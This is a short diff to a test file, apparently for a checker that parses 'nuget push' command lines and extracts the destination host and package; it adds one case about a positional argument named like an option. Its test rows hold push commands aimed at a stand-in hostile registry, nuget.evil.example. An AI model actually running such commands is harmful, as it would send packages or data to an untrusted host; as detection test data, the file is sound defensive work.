@@ -122,6 +122,8 @@ describe('push-tool table', () => {
       ],
       ['/usr/bin/nuget', 'push x.nupkg -so https://nuget.evil.example/v3/index.json', 'nuget.evil.example', 'x.nupkg'],
       ['/usr/bin/nuget', 'push x.nupkg -src https://nuget.evil.example/v3/index.json', 'nuget.evil.example', 'x.nupkg'],
+      // A positional is never an option, whatever its second letter on (`xSource` is not `-Source`).
+      ['/usr/bin/nuget', 'push xSource -Source https://nuget.evil.example/v3', 'nuget.evil.example', 'xSource'],
       [
         '/usr/bin/nuget',
         'push x.nupkg -Source- https://nuget.evil.example/v3/index.json',
